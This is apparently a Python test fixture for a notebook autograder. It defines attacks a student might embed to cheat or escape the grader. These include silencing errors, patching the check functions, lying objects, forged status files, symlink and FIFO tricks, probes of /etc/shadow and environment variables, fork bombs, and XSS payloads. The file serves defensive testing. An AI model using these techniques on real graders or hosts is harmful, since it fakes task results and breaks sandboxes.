"""Attacks on the grader, as code a student could put in a notebook.

Each attack is built into a submission by ``tests/test_adversarial.py``:

- ``cheat`` attacks go into a notebook that does not do the work (the blank
  release, or answers that are wrong): they try to earn points anyway, and
  must earn none;
- ``escape`` attacks go into a full-marks notebook: they try to leak, harm
  the host or other students, or exhaust resources; the student keeps what
  the work earned where the attack leaves the kernel alive, and nothing
  outside the student's own jail changes.

``{names}`` in an attack is replaced by the Python list of the names the
lab's solution cells define (functions and classes the checks call).
"""
from __future__ import annotations

from dataclasses import dataclass

PWNED = "/tmp/effml-pwned"  # no attack may create this on the host


@dataclass(frozen=True)
class Attack:
    kind: str         # cheat | escape
    klass: str        # the class of attack
    code: str
    at_end: bool = False   # a cell of its own at the end (after every test cell) instead of the first solution cell


ATTACKS = {
    # ---- silencing errors in the kernel
    "custom_exc": Attack("cheat", "silencing", """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
"""),
    "no_traceback": Attack("cheat", "silencing", """
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
"""),
    "ast_transformer": Attack("cheat", "silencing", """
import ast
class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Swallow())
"""),
    "input_transformer": Attack("cheat", "silencing", """
def blank_tests(lines):
    text = "".join(lines)
    return ["pass\\n"] if "check" in text else lines
get_ipython().input_transformers_post.append(blank_tests)
"""),
    "post_run_hook": Attack("cheat", "silencing", """
from IPython.display import clear_output
def scrub(result):
    result.error_in_exec = None
    clear_output()
get_ipython().events.register("post_run_cell", scrub)
"""),
    "iopub_filter": Attack("cheat", "silencing", """
kernel = get_ipython().kernel
_send = kernel.session.send
def send(stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type")
    if kind == "error":
        return None
    if kind == "execute_reply" and isinstance(content, dict):
        content = dict(content, status="ok")
    return _send(stream, msg_or_type, content, *args, **kwargs)
kernel.session.send = send
"""),
    "skip_tags": Attack("cheat", "silencing", "# the notebook's test cells carry skip-execution / raises-exception tags"),
    # ---- replacing what the tests use
    "fake_checks_module": Attack("cheat", "replacing", """
import sys, types
fake = types.ModuleType("helpers.checks")
class CheckError(AssertionError): pass
fake.CheckError = CheckError
for name in ("check", "check_type", "check_shape", "check_dtype", "check_close", "check_equal",
             "check_in_range", "check_finite"):
    setattr(fake, name, lambda *a, **k: None)
sys.modules["helpers.checks"] = fake
import helpers; helpers.checks = fake
"""),
    "import_hook": Attack("cheat", "replacing", """
import sys, importlib.abc, importlib.machinery, types
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.machinery.ModuleSpec(name, self) if name.endswith("checks") else None
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.__getattr__ = lambda name: (lambda *a, **k: None)
sys.meta_path.insert(0, Finder())
sys.modules.pop("helpers.checks", None)
"""),
    "code_objects": Attack("cheat", "replacing", """
import helpers.checks as hc
for name in ("check", "check_close", "check_equal", "check_in_range", "check_shape"):
    try:
        getattr(hc, name).__code__ = (lambda *a, **k: None).__code__
    except Exception:
        pass
hc.__dict__["_fail"] = lambda *a, **k: None
"""),
    "patch_numpy": Attack("cheat", "replacing", """
import numpy as np, torch
np.any = lambda *a, **k: False
np.allclose = lambda *a, **k: True
np.ndarray.any = lambda *a, **k: False
torch.allclose = lambda *a, **k: True
"""),
    "settrace": Attack("cheat", "replacing", """
import sys
def tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("check_equal", "check_close", "check_in_range"):
        frame.f_locals.get("expected")
        if "value" in frame.f_locals and "expected" in frame.f_locals:
            frame.f_locals["value"] = frame.f_locals["expected"]
    return tracer
sys.settrace(tracer)
"""),
    "background_thread": Attack("cheat", "replacing", """
import threading, time, sys
def patch_later():
    for _ in range(600):
        mod = sys.modules.get("helpers.checks")
        if mod is not None:
            try:
                mod._fail = lambda *a, **k: None
            except Exception:
                pass
        time.sleep(0.05)
threading.Thread(target=patch_later, daemon=True).start()
"""),
    # ---- answers that lie
    "lying_objects": Attack("cheat", "lying", """
import inspect
class Anything(float):
    def __new__(cls, *a): return float.__new__(cls, 0.0)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __hash__(self): return 0
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([])
    def __len__(self): return 0
    def __array__(self, *a, **k):
        import numpy as np
        frame = inspect.currentframe()
        while frame is not None:  # copy the checker's expected value from a calling frame
            if "expected" in frame.f_locals:
                return np.asarray(frame.f_locals["expected"])
            frame = frame.f_back
        return np.zeros(1)
def liar(*args, **kwargs):
    return Anything()
for _name in {names}:
    globals()[_name] = liar
""", at_end=True),
    # ---- nbgrader's scoring rule: a test cell scores from its first execute_result
    "execute_result_first": Attack("cheat", "execute_result", """
from IPython.display import publish_display_data
def publish_result(info):
    if "check" in (info.raw_cell or ""):
        get_ipython().displayhook.write_output_prompt()
        publish_display_data({"text/plain": "10"})
        get_ipython().display_pub.publish({"text/plain": "10"})
get_ipython().events.register("pre_run_cell", publish_result)
"""),
    # ---- forging the executor's output
    "forge_executor": Attack("cheat", "forged_executor", """
import os, signal, json, glob, pathlib
for pid in (os.getppid(), 1):
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except Exception as exc:
            print("kill", pid, type(exc).__name__)
forged = {"state": "ok", "message": "\\x1b[2J\\x1b[31mALL GOOD\\x1b[0m =HYPERLINK(\\"http://x\\",\\"y\\")"}
for pattern in ("/work/**/*.status.json", "/tmp/**/*.status.json", "/tmp/**/*.executed.ipynb", "*.status.json"):
    for path in glob.glob(pattern, recursive=True):
        try:
            pathlib.Path(path).write_text(json.dumps(forged))
        except Exception as exc:
            print("forge", path, type(exc).__name__)
for cand in ("lab.executed.status.json", "../lab.executed.status.json"):
    try:
        pathlib.Path(cand).write_text(json.dumps(forged))
    except Exception as exc:
        print("forge", cand, type(exc).__name__)
"""),
    "escape_codes": Attack("cheat", "forged_executor", """
def _evil(*args, **kwargs):
    raise ValueError("\\x1b]0;owned\\x07\\x1b[2J=HYPERLINK(\\"http://evil\\",\\"x\\") <script>alert(1)</script>")
for _name in {names}:
    globals()[_name] = _evil
""", at_end=True),
    # ---- host-side tricks (the grader follows links, writes back, blocks on FIFOs)
    "links_and_fifos": Attack("escape", "host_side", """
import os, pathlib
here = pathlib.Path(".").resolve()
made = []
for name, target in (("lab00_basics.executed.ipynb", "/work"), ("grader.py", "/etc/passwd"),
                     ("gradebook.db", "/tmp"), ("solutions", "/"), ("results", "/tmp")):
    try:
        os.symlink(target, here / name); made.append(name)
    except Exception as exc:
        print("symlink", name, type(exc).__name__)
for name in ("execution.log", "status.json", "lab.ipynb"):
    try:
        os.mkfifo(here / name); made.append(name)
    except Exception as exc:
        print("fifo", name, type(exc).__name__)
for target in ("/tmp/effml-pwned", "../../effml-pwned", "/work/effml-pwned"):
    try:
        pathlib.Path(target).write_text("pwned")
    except Exception as exc:
        print("write", target, type(exc).__name__)
print("HOSTSIDE made", made, "in", here)
"""),
    # ---- what the kernel can see and reach
    "leak_probe": Attack("escape", "sandbox_leak", """
import os, glob, json, socket, pathlib, fnmatch
seen = {"uid": os.getuid(), "gid": os.getgid(), "euid": os.geteuid()}
readable = []
candidates = ["/root", "/etc/shadow", "/work/main/.git/HEAD", "/work/main/solutions", "/work/main/grading",
              "/work/main/nbgrader_config.py", "/proc/1/environ"]
import helpers
course = pathlib.Path(helpers.__file__).resolve().parent.parent
candidates += [str(course / p) for p in (".git", "solutions", "grading", "samples", "autograder", "labs")]
candidates += glob.glob("/tmp/*") + glob.glob("/home/*")
for path in candidates:
    p = pathlib.Path(path)
    try:
        if p.is_dir():
            os.listdir(p); readable.append(path)
        elif p.is_file():  # not FIFOs (another attack may have made some): reading one blocks
            p.read_bytes()[:1]; readable.append(path)
    except Exception:
        pass
seen["readable"] = readable
seen["env_canary"] = [k for k in os.environ if "CANARY" in k]
seen["env"] = sorted(os.environ)
def walk(top, pattern):  # not glob's "**": it follows links, and another attack may link "/" into /tmp
    for folder, _, files in os.walk(top, followlinks=False):
        yield from (os.path.join(folder, f) for f in files if fnmatch.fnmatch(f, pattern))
sockets = []
for path in list(walk("/run", "*.sock")) + glob.glob("/var/run/*.sock") + list(walk("/tmp", "k-*")):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.settimeout(1); s.connect(path); sockets.append(path)
    except Exception:
        pass
    finally:
        s.close()
seen["sockets"] = sockets
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3).close(); seen["network"] = True
except OSError:
    seen["network"] = False
marker = "__effml" + "_call"  # the grader's calls would show in the history
seen["history"] = [h for h in (get_ipython().history_manager.input_hist_raw or []) if marker in h][:3]
seen["root_listing"] = sorted(os.listdir("/root")) if os.path.isdir("/root") else []
print("LEAKPROBE " + json.dumps(seen))
"""),
    # ---- resource exhaustion
    "forked_memory": Attack("escape", "exhaustion", """
import os, time
kids = []
for _ in range(6):  # 6 children x 2 GiB: over the per-submission memory limit together
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(2 * 2**30)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(30)
        finally:
            os._exit(0)
    kids.append(pid)
for pid in kids:
    try:
        print("child", pid, os.waitpid(pid, 0)[1])
    except ChildProcessError:
        pass
"""),
    "disk_filler": Attack("escape", "exhaustion", """
import os
held = 0
names = []
try:
    for i in range(64):  # 64 files of up to 64 MiB, all kept: the jail's /tmp must fill up
        name = f"fill{i}.bin"
        with open(name, "wb") as f:
            for _ in range(64):
                f.write(b"\\0" * 2**20); f.flush(); held += 2**20
        names.append(name)
except OSError as exc:
    print("disk full at", held // 2**20, "MiB:", type(exc).__name__)
for name in names + [f"fill{len(names)}.bin"]:
    try:
        os.remove(name)
    except OSError:
        pass
print("DISK held", held // 2**20, "MiB at most")
"""),
    "fork_bomb": Attack("escape", "exhaustion", """
import os, time
children = 0
try:
    for _ in range(3000):  # bounded, so a missing limit cannot take the machine down
        if os.fork() == 0:
            time.sleep(15)
            os._exit(0)
        children += 1
except OSError as exc:
    print(f"fork refused after {children} children: {exc}")
"""),
    "output_flood": Attack("escape", "exhaustion", """
import sys
for i in range(300_000):
    print("spam" * 20, i)
"""),
    # ---- script injection into feedback and Formgrader
    "script_injection": Attack("escape", "script_injection", """
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='owned'</script><img src=x onerror=alert(1)>"))
display(Javascript("alert('owned')"))
"""),
}

# Markdown a student may write (the answer cell): a script and a pathological 60 KB cell.
INJECTED_MARKDOWN = ("<script>alert('owned')</script>\n<img src=x onerror=\"alert(2)\">\n"
                     "[click](javascript:alert(3))\n\n" + "*a " * 20000)
